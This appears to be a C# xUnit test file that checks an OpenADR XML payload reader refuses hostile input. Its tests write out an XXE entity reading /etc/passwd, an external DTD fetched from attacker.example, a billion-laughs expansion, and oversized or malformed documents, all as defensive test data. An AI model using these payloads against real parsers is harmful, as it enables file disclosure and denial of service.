using System;
using System.Linq;
using System.Text;
using OpenAdr.Edge.Xml;
using Xunit;

namespace OpenAdr.Edge.Payloads.Tests;

public class HostileDocumentTests
{
    private const string Declarations = "xmlns:oadr=\"http://openadr.org/oadr-2.0b/2012/07\" xmlns:ei=\"http://docs.oasis-open.org/ns/energyinterop/201110\" xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"";

    private static string Poll(string venId = "ven-1", string signature = "") =>
        $"<oadr:oadrPayload {Declarations}>{signature}<oadr:oadrSignedObject><oadr:oadrPoll ei:schemaVersion=\"2.0b\"><ei:venID>{venId}</ei:venID></oadr:oadrPoll></oadr:oadrSignedObject></oadr:oadrPayload>";

    [Fact]
    public void The_poll_used_below_is_accepted()
    {
        Assert.Equal("ven-1", ((OadrPoll)OadrPayload.Read(Encoding.UTF8.GetBytes(Poll())).OadrSignedObject.Message).VenId);
        Assert.NotNull(OadrPayload.Read(Encoding.UTF8.GetBytes(Poll(signature: "<ds:Signature><a><b/></a></ds:Signature>"))).Signature);
    }

    [Fact]
    public void Doctype_with_an_external_entity_is_refused()
    {
        var xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE oadr:oadrPayload [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n" + Poll("&xxe;");
        AssertRefused(xml, XmlError.DtdNotAllowed);
    }

    [Fact]
    public void Doctype_with_an_external_subset_is_refused()
    {
        AssertRefused("<!DOCTYPE oadrPayload SYSTEM \"http://attacker.example/evil.dtd\">" + Poll(), XmlError.DtdNotAllowed);
    }

    [Fact]
    public void Billion_laughs_is_refused_before_any_expansion()
    {
        var dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (var i = 1; i <= 9; i++)
        {
            dtd.Append($"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{(i == 1 ? "" : i - 1)};", 10))}\">");
        }

        dtd.Append("]>");
        AssertRefused(dtd + Poll("&lol9;"), XmlError.DtdNotAllowed);
    }

    [Fact]
    public void Entity_reference_without_a_doctype_is_refused()
    {
        AssertRefused(Poll("&xxe;"), XmlError.UnknownEntity);
    }

    [Fact]
    public void Ten_thousand_deep_nesting_inside_the_signature_hits_the_depth_limit()
    {
        var nested = string.Concat(Enumerable.Repeat("<ds:a>", 10_000)) + string.Concat(Enumerable.Repeat("</ds:a>", 10_000));
        AssertRefused(Poll(signature: "<ds:Signature>" + nested + "</ds:Signature>"), XmlError.DepthLimitExceeded);
    }

    [Fact]
    public void Ten_thousand_deep_nesting_of_payload_elements_is_refused_at_the_first_unexpected_one()
    {
        var nested = string.Concat(Enumerable.Repeat("<oadr:oadrSignedObject>", 10_000)) + string.Concat(Enumerable.Repeat("</oadr:oadrSignedObject>", 10_000));
        AssertRefused($"<oadr:oadrPayload {Declarations}>{nested}</oadr:oadrPayload>", XmlError.UnexpectedElement);
    }

    [Fact]
    public void Ten_megabyte_text_node_hits_the_text_limit()
    {
        AssertRefused(Poll(new string('v', 10 * 1024 * 1024)), XmlError.TextLengthLimitExceeded);
    }

    [Fact]
    public void Ten_megabyte_text_node_inside_the_signature_hits_the_text_limit()
    {
        AssertRefused(Poll(signature: "<ds:Signature>" + new string('s', 10 * 1024 * 1024) + "</ds:Signature>"), XmlError.TextLengthLimitExceeded);
    }

    [Fact]
    public void Ten_megabyte_attribute_value_hits_the_text_limit()
    {
        AssertRefused(Poll().Replace("\"2.0b\"", "\"x-" + new string('a', 10 * 1024 * 1024) + "\"", StringComparison.Ordinal), XmlError.TextLengthLimitExceeded);
    }

    [Fact]
    public void Ten_megabyte_of_escaped_text_hits_the_text_limit()
    {
        AssertRefused(Poll(string.Concat(Enumerable.Repeat("&amp;", 2 * 1024 * 1024))), XmlError.TextLengthLimitExceeded);
    }

    [Theory]
    [InlineData(new byte[] { 0xC0, 0xAF })]
    [InlineData(new byte[] { 0x80 })]
    [InlineData(new byte[] { 0xED, 0xA0, 0x80 })]
    [InlineData(new byte[] { 0xF4, 0x90, 0x80, 0x80 })]
    [InlineData(new byte[] { 0xFF })]
    [InlineData(new byte[] { 0xE2, 0x82 })]
    public void Invalid_utf8_is_refused(byte[] invalid)
    {
        var xml = Encoding.UTF8.GetBytes(Poll("ven-\u00e9-X"));
        var at = Array.IndexOf(xml, (byte)'X');
        var bad = xml[..at].Concat(invalid).Concat(xml[(at + 1)..]).ToArray();

        var e = AssertRefused(bad, XmlError.InvalidUtf8);
        Assert.Equal(at, e.Offset);
    }

    [Fact]
    public void Utf16_document_is_refused()
    {
        var xml = Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(Poll())).ToArray();
        AssertRefused(xml, XmlError.InvalidUtf8);
    }

    [Fact]
    public void Declared_encoding_other_than_utf8_is_refused()
    {
        AssertRefused("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" + Poll(), XmlError.UnsupportedEncoding);
    }

    /// <summary>A poll that uses every kind of markup the reader knows, so that its truncations cut through each of them.</summary>
    private const string RichPoll = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<!-- a poll --><?app note?>\n"
        + "<oadr:oadrPayload " + Declarations + ">\n"
        + "<ds:Signature Id='s1'><ds:SignedInfo a=\"x &amp; y\" b = 'z'/><ds:SignatureValue>QUJD</ds:SignatureValue>t &lt; u<![CDATA[v]]><!--c--></ds:Signature>"
        + "<oadr:oadrSignedObject oadr:Id=\"oadrSignedObject\"><oadr:oadrPoll ei:schemaVersion=\"2.0b\"><!-- c --><?pi?>"
        + "<ei:venID>ven&#x2D;<![CDATA[1]]>&amp;2&#51;<!--x--></ei:venID ></oadr:oadrPoll></oadr:oadrSignedObject>\n</oadr:oadrPayload>\n";

    public static TheoryData<string> Polls => new(["009_1_VEN-to-VTN_OadrPoll_oadrPoll.xml", "signed-examples/01_VEN_oadrPoll.signed.xml", "rich"]);

    [Theory]
    [MemberData(nameof(Polls))]
    public void Every_truncation_of_a_poll_is_refused_as_unexpected_end_of_input(string poll)
    {
        var xml = poll == "rich" ? Encoding.UTF8.GetBytes(RichPoll) : Interop.Bytes(poll);
        var end = xml.AsSpan().LastIndexOf("</oadr:oadrPayload>"u8) + "</oadr:oadrPayload>".Length;
        var rootStart = xml.AsSpan().IndexOf("<oadr:oadrPayload"u8);
        Assert.Equal(poll == "rich" ? "ven-1&23" : "ven-", ((OadrPoll)OadrPayload.Read(xml[..end]).OadrSignedObject.Message).VenId[..(poll == "rich" ? 8 : 4)]);

        for (var length = 0; length < end; length++)
        {
            var prolog = Encoding.UTF8.GetString(xml, 0, length).TrimEnd();
            var expected = length <= rootStart && (prolog.Length == 0 || prolog.EndsWith("?>", StringComparison.Ordinal) || prolog.EndsWith("-->", StringComparison.Ordinal))
                ? XmlError.NoRootElement
                : XmlError.UnexpectedEndOfInput;
            var e = AssertRefused(xml[..length], expected, $"prefix of {length} bytes: ...{Encoding.UTF8.GetString(xml, Math.Max(0, length - 40), Math.Min(40, length))}");
            Assert.InRange(e.Offset, 0, length);
        }
    }

    [Theory]
    [InlineData("<oadr:oadrPoll xmlns:oadr=\"http://openadr.org/oadr-2.0b/2012/07\"/>")]
    [InlineData("<oadrPayload><oadrSignedObject/></oadrPayload>")]
    [InlineData("<x:oadrPayload xmlns:x=\"http://openadr.org/oadr-2.0b/2012/07/other\"/>")]
    [InlineData("<html><body>Hello</body></html>")]
    public void Unknown_root_is_refused(string xml)
    {
        AssertRefused(xml, XmlError.UnknownRootElement);
    }

    [Theory]
    [InlineData("<oadr:oadrFoo><ei:venID>v</ei:venID></oadr:oadrFoo>")]
    [InlineData("<ei:oadrPoll><ei:venID>v</ei:venID></ei:oadrPoll>")]
    [InlineData("<oadr:oadrPayload/>")]
    public void Unknown_payload_element_in_the_signed_object_is_refused(string payload)
    {
        AssertRefused($"<oadr:oadrPayload {Declarations}><oadr:oadrSignedObject>{payload}</oadr:oadrSignedObject></oadr:oadrPayload>", XmlError.UnexpectedElement);
    }

    [Fact]
    public void A_duration_too_long_for_a_timespan_is_refused_as_an_invalid_value()
    {
        // Found by the fuzzer (tests/OpenAdr.Edge.Fuzz): the reader threw OverflowException on this one.
        var xml = Encoding.UTF8.GetString(Documents.Write(Samples.Create("oadrRegisteredReport")));
        var mutated = System.Text.RegularExpressions.Regex.Replace(xml, "<xcal:duration>[^<]*</xcal:duration>", "<xcal:duration>P99999999999999999999D</xcal:duration>");
        Assert.NotEqual(xml, mutated);
        AssertRefused(mutated, XmlError.InvalidValue);
    }

    [Fact]
    public void Random_byte_garbage_is_refused()
    {
        var random = new Random(20261126);
        for (var i = 0; i < 5_000; i++)
        {
            var garbage = new byte[random.Next(0, 600)];
            random.NextBytes(garbage);
            if (i % 3 == 1 && garbage.Length > 0)
            {
                garbage[0] = (byte)'<';
            }
            else if (i % 3 == 2)
            {
                garbage = Encoding.UTF8.GetBytes(Poll()[..random.Next(0, Poll().Length)]).Concat(garbage).ToArray();
            }

            var e = AssertRefused(garbage, null, $"garbage #{i}");
            Assert.NotEqual(XmlError.None, e.Error);
        }
    }

    [Fact]
    public void Random_damage_to_real_messages_gives_a_model_or_an_XmlReadException_and_nothing_else()
    {
        var random = new Random(42);
        var files = Interop.Files().Where(f => !f.Contains("oadrPoll", StringComparison.Ordinal)).Take(40).ToArray();
        var refused = 0;
        foreach (var file in files)
        {
            var xml = Interop.Bytes(file);
            for (var i = 0; i < 200; i++)
            {
                var damaged = (byte[])xml.Clone();
                for (var hits = random.Next(1, 4); hits > 0; hits--)
                {
                    var at = random.Next(damaged.Length);
                    damaged[at] = random.Next(3) switch
                    {
                        0 => (byte)random.Next(256),
                        1 => (byte)"<>/&;:=\"' \u0000x"[random.Next(12)],
                        _ => (byte)(damaged[at] ^ (1 << random.Next(8))),
                    };
                }

                try
                {
                    OadrPayload.Read(damaged);
                }
                catch (XmlReadException)
                {
                    refused++;
                }
                catch (Exception e)
                {
                    Assert.Fail($"{file} damaged #{i} threw {e.GetType().Name}: {e.Message}\n{Documents.Show(damaged)}");
                }
            }
        }

        Assert.InRange(refused, files.Length * 100, files.Length * 200);
    }

    private static XmlReadException AssertRefused(string xml, XmlError expected) => AssertRefused(Encoding.UTF8.GetBytes(xml), expected);

    private static XmlReadException AssertRefused(byte[] xml, XmlError? expected, string? what = null)
    {
        try
        {
            var payload = OadrPayload.Read(xml);
            Assert.Fail($"{what} was accepted as {payload.OadrSignedObject.Message?.GetType().Name}");
            throw new InvalidOperationException();
        }
        catch (XmlReadException e)
        {
            if (expected is { } error && e.Error != error)
            {
                Assert.Fail($"{what}: expected {error}, got {e.Message}");
            }

            return e;
        }
        catch (Exception e) when (e is not Xunit.Sdk.IAssertionException)
        {
            Assert.Fail($"{what}: expected an XmlReadException ({expected}), got {e.GetType().Name}: {e.Message}");
            throw;
        }
    }
}
